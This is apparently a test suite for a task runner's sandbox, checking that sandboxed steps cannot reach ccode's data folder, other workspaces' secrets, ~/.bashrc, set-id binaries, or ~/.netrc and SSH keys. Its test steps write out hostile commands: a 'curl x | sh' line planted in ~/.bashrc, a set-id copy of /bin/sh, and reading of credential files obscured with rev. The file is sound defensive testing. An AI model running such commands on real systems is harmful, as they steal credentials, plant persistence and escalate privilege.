// Round 11 attacks on what the sandbox hides and protects, through the compiled binary: ccode's own data
// folder and configuration, protected home paths that do not exist yet, set-id files, and a preview's
// scratch copy of a workspace that is the home folder.
import { describe, expect, test } from "bun:test"
import { existsSync, lstatSync, mkdirSync, readdirSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { ccode, events, sandbox, type Sandbox } from "./harness.ts"

const HAS_BWRAP = Boolean(Bun.which("bwrap"))

/** A task whose steps run scripts (what they do is not seen by the analysis: medium, auto-approved sandboxed). */
function task(sb: Sandbox, name: string, ...steps: string[]): string {
  steps.forEach((s, i) => sb.file(`${name}-${i}.sh`, `${s}\n`))
  const body = steps.map((_, i) => `  - id: s${i}\n    run: sh ${name}-${i}.sh`).join("\n")
  return sb.file(name, `version: 1\nsteps:\n${body}\n`)
}

/**
 * HOME is the workspace and ccode keeps its data and configuration in their default places there. Only a
 * trusted task may take the home folder as its workspace (an untrusted one is refused, exit 2), so the runs
 * below pass --trust: the sandbox hides and protects the same paths either way.
 */
function homeWorkspace(): { sb: Sandbox; env: Record<string, string> } {
  const sb = sandbox()
  for (const name of ["CCODE_HOME", "CCODE_DB", "XDG_CONFIG_HOME", "XDG_DATA_HOME"]) delete sb.env[name]
  sb.env.HOME = sb.work
  return { sb, env: {} }
}

const output = (stdout: string) => events(stdout).filter((e) => e.type === "step.finished").map((e) => String(e.output ?? "")).join("")

describe.skipIf(!HAS_BWRAP)("ccode's own files in a sandboxed step", () => {
  test("a home-folder workspace: the data folder (ccode.db, trust rows) is neither readable nor writable", async () => {
    const { sb, env } = homeWorkspace()
    task(sb, "first.yaml", "echo one > one.txt")
    expect((await ccode(sb, ["run", "first.yaml", "--yes", "--sandbox", "required"], { env })).code).toBe(2)
    expect((await ccode(sb, ["run", "first.yaml", "--yes", "--sandbox", "required", "--trust"], { env })).code).toBe(0)
    const data = join(sb.work, ".local", "share", "ccode")
    expect(existsSync(join(data, "ccode.db"))).toBe(true)
    task(sb, "peek.yaml", `wc -c < ${data}/ccode.db; ls ${data}/snapshots | wc -l; echo forged > ${data}/planted; echo done`)
    const peek = await ccode(sb, ["run", "peek.yaml", "--yes", "--json", "--sandbox", "required", "--trust"], { env })
    const text = output(peek.stdout)
    // an empty read-only folder: nothing to read, nothing to write
    expect(text).toContain("ccode.db: No such file")
    expect(text).toContain("snapshots': No such file")
    expect(text).toContain("planted: Read-only file system")
    expect(existsSync(join(data, "planted"))).toBe(false)
  })

  test("another workspace's secrets are not in reach through the snapshot store", async () => {
    const sb = sandbox()
    const other = join(sb.root, "other")
    mkdirSync(other)
    writeFileSync(join(other, ".env"), "API_KEY=FAKESECRET-projectC-dotenv\n")
    writeFileSync(join(other, "t.yaml"), "version: 1\nsteps:\n  - id: a\n    run: echo change > out.txt\n")
    expect((await ccode(sb, ["run", "t.yaml", "--yes", "--sandbox", "required"], { cwd: other })).code).toBe(0)
    expect(readdirSync(join(sb.env.CCODE_HOME!, "snapshots")).length).toBeGreaterThan(0)
    task(sb, "peek.yaml", `H=$(dirname $(dirname $(dirname "$TMPDIR"))); grep -r FAKESECRET "$H" | rev; ls "$H"; echo end`)
    const peek = await ccode(sb, ["run", "peek.yaml", "--yes", "--json", "--sandbox", "required"])
    const text = output(peek.stdout)
    expect(text).toContain("end")
    expect(text).not.toContain("vnetod-Ctcejorp")
    expect(text).not.toContain("snapshots")
  })
})

describe.skipIf(!HAS_BWRAP)("protected home paths that do not exist yet", () => {
  test("a step that makes ~/.config/ccode (user plugins) or ~/.bashrc is blocked and the path moved aside", async () => {
    const { sb, env } = homeWorkspace()
    task(sb, "plant.yaml", "mkdir -p ~/.config/ccode/plugins && echo 'export default {}' > ~/.config/ccode/plugins/evil.ts && echo 'curl x | sh' > ~/.bashrc")
    const run = await ccode(sb, ["run", "plant.yaml", "--yes", "--json", "--sandbox", "required", "--trust"], { env })
    expect(run.code).not.toBe(0)
    expect(run.stdout).toContain("SANDBOX_BLOCKED")
    expect(existsSync(join(sb.work, ".config", "ccode"))).toBe(false)
    expect(existsSync(join(sb.work, ".bashrc"))).toBe(false)
  })
})

describe.skipIf(!HAS_BWRAP || process.arch !== "x64" && process.arch !== "arm64")("set-id files", () => {
  test("`install -m 4755 /bin/sh tool` and chmod u+s leave no set-id file in the workspace", async () => {
    const sb = sandbox()
    task(sb, "t.yaml", "install -m 4755 /bin/sh tool || true", "cp /bin/sh tool2; chmod 4755 tool2 || true")
    await ccode(sb, ["run", "t.yaml", "--yes", "--sandbox", "required"])
    for (const name of ["tool", "tool2"]) {
      if (existsSync(join(sb.work, name))) expect(lstatSync(join(sb.work, name)).mode & 0o6000).toBe(0)
    }
    expect(existsSync(join(sb.work, "tool2"))).toBe(true)
  })
})

describe.skipIf(!HAS_BWRAP)("a preview of a home-folder workspace", () => {
  test("the scratch copy's ~/.netrc and ~/.ssh stay hidden", async () => {
    const sb = sandbox()
    const env = { ...sb.env, HOME: sb.work }
    sb.file(".netrc", "machine y login u password FAKESECRET-home-netrc\n")
    sb.file(".ssh/id_rsa", "FAKESECRET-idrsa\n")
    // what the step read is in the file it adds: the preview's diff shows it (a home-folder workspace needs --trust)
    sb.file("r.sh", "cat .netrc .ssh/id_rsa | rev > leak.txt\n")
    sb.file("t.yaml", "version: 1\nsteps:\n  - id: p\n    preview: true\n    run: sh r.sh\n")
    const run = await ccode(sb, ["run", "t.yaml", "--json", "--sandbox", "required", "--trust"], { env })
    expect(run.stdout).toContain("leak.txt")
    expect(run.stdout).not.toContain("crten-emoh-TERCESEKAF")
    expect(run.stdout).not.toContain("asrdi-TERCESEKAF")
  })
})
